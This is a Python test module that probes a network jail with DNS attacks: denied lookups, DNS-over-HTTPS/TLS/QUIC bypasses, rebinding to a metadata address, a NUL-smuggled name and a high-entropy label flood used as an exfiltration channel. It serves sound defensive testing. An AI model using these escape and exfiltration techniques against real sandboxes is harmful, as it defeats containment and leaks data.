"""Catalogue items 14-17: DNS, attacked from inside the main jail.

The oracle is the lab's DNS server (every query it got, with name and type), the
catch-all (a resolver the jail should never reach directly) and the captures (a query
name with the canary in it, anywhere on the wire).
"""

from __future__ import annotations

import secrets
import subprocess

import pytest

import attacklib as lib
import jailrun as jail
from attacklib import BAD_TARGETS, REBIND

pytestmark = pytest.mark.root

A = lib.declare_module(__name__)
LAB_DNS, LAB_DNS6, NOWHERE = "198.51.100.53", "2001:db8:53::53", "198.51.100.99"

# -- 14 default deny ---------------------------------------------------------------------------
A(14, "an allowed wildcard name is looked up upstream", "dns", control=True, server=LAB_DNS,
  name="@T@.wild.example", expect=lambda r: r.get("rcode") == 3)
for label, server, tcp in (("UDP", LAB_DNS, False), ("UDP v6", LAB_DNS6, False),
                           ("TCP v6", LAB_DNS6, True),
                           ("TCP", LAB_DNS, True), ("a resolver that does not exist", NOWHERE,
                                                    False)):
    A(14, f"a denied name over {label}", "dns", server=server, tcp=tcp,
      name="@T@.denied.example", expect=lib.nxdomain)
for qtype, tname in ((16, "TXT"), (15, "MX"), (255, "ANY"), (33, "SRV"), (10, "NULL"),
                     (257, "CAA"), (12, "PTR")):
    A(14, f"{tname} for an allowed name is never forwarded", "dns", server=LAB_DNS, qtype=qtype,
      name="@T@.wild.example", expect=lib.not_answered_dns)
A(14, "a denied HTTP request triggers no lookup", "curl",
  argv=["--resolve", "@T@.denied.example:80:198.51.100.20", "http://@T@.denied.example/x"],
  expect=lib.status(403))
A(14, "a name with a NUL and dots inside a label", "dns", server=LAB_DNS,
  name="@T@\x00.www.allowed.example", expect=lib.not_answered_dns)

# -- 16 DoT, DoQ, DoH, ECH -------------------------------------------------------------------
A(16, "HTTPS to a host under the DoH server's wildcard", "curl", control=True,
  expect=lib.status(200), argv=["https://x.wild.example/c16/@T@"])
A(16, "DNS over TLS (TCP 853)", "tcp", host=LAB_DNS, port=853, payload="@T@",
  expect=lib.refused)
A(16, "DNS over QUIC (UDP 853)", "udp", host=LAB_DNS, port=853, payload="@T@",
  expect=lib.no_answer)
A(16, "DoH POST to an allowed wildcard host", "curl", expect=lib.not_ok_status,
  argv=["-X", "POST", "-H", "content-type: application/dns-message", "--data-binary", "@T@",
        "https://dns.wild.example/dns-query"])
A(16, "DoH GET to an allowed wildcard host", "curl", expect=lib.not_ok_status,
  argv=["-H", "accept: application/dns-message", "https://dns.wild.example/dns-query?dns=@T@"])
A(16, "DoH JSON API (GET /resolve?name=) under a wildcard", "curl", expect=lib.not_ok_status,
  argv=["https://dns.wild.example/resolve?name=@T@.example&type=A"])
for qtype, tname in ((65, "HTTPS"), (64, "SVCB")):
    A(16, f"{tname} records (ECH keys) for an allowed name", "dns", server=LAB_DNS,
      qtype=qtype, name="@T@.wild.example", expect=lib.not_answered_dns)

# -- 17 rebinding ----------------------------------------------------------------------------
A(17, "a rebinding name's first (public) answer", "curl", control=True, serial=True,
  expect=lib.status(200), argv=[f"http://{REBIND}/c17/@T@"])
A(17, "the same name once it rebinds to the metadata address", "curl", serial=True,
  expect=lib.not_ok_status, argv=[f"http://{REBIND}/@T@"],
  may_reach={"server_ip": "198.51.100.10"})
for name, (v4, v6, _) in BAD_TARGETS.items():
    A(17, f"{name} -> {v4 or v6}", "curl", argv=[f"http://{name}/@T@"],
      expect=lib.not_ok_status)
    A(17, f"{name} looked up", "dns", server=LAB_DNS, name=name, qtype=1 if v4 else 28,
      expect=lib.not_answered_dns)
A(17, "meta.wild.example with the agent's own public address", "curl",
  argv=["--resolve", "meta.wild.example:80:198.51.100.10", "http://meta.wild.example/@T@"],
  expect=lib.not_ok_status)


@pytest.mark.parametrize("a", lib.params(__name__))
def test_attack(main_run, a):
    lib.judge(main_run, a)


# -- 15: floods and wildcards ------------------------------------------------------------------

FLOOD = A(15, "a flood of high-entropy labels under an allowed wildcard", "dns_many",
          server=LAB_DNS, judged=False,
          names=[f"@T@{secrets.token_hex(12)}.wild.example" for _ in range(30)])


@pytest.mark.threat(15, "a label flood under an allowed wildcard is logged (the channel stays)")
def test_15_a_label_flood_is_logged(main_run):
    r = main_run.results[FLOOD.id]
    assert r["ok"] and len(r["rcodes"]) == 30, r
    tag = main_run.tag(FLOOD)
    # The limitation, stated by the oracle: an allowed wildcard is a DNS channel out. The
    # names reached the zone's server (docs/security.md says so).
    assert main_run.events_with(tag), "expected the flood to reach the lab's DNS"
    flood = [rec for rec in main_run.log if tag in str(rec) and "high-entropy" in
             str(rec.get("alert"))]
    assert flood, [rec for rec in main_run.log if tag in str(rec)][-3:]


@pytest.mark.threat(15, "wildcards over public suffixes are refused at load")
@pytest.mark.parametrize("pattern", ["*.com", "*.co.uk", "*.github.io", "*.amazonaws.com"])
def test_15_public_suffix_wildcards_are_refused(attack_lab, pattern, tmp_path):
    work = jail.Workdir()
    try:
        bad = work.write("bad.toml", jail.config_text(attack_lab, [pattern]))
        good = work.write("good.toml", jail.config_text(attack_lab, ["*.wild.example"]))
        p = subprocess.run([*jail.PANOPTICON_ARGV, "check", "--config", str(bad)],
                           capture_output=True, text=True, timeout=60)
        assert p.returncode == 3 and pattern in p.stderr, p.stderr
        ok = subprocess.run([*jail.PANOPTICON_ARGV, "check", "--config", str(good)],
                            capture_output=True, text=True, timeout=60)
        assert ok.returncode == 0, ok.stderr  # the positive control
    finally:
        work.close()
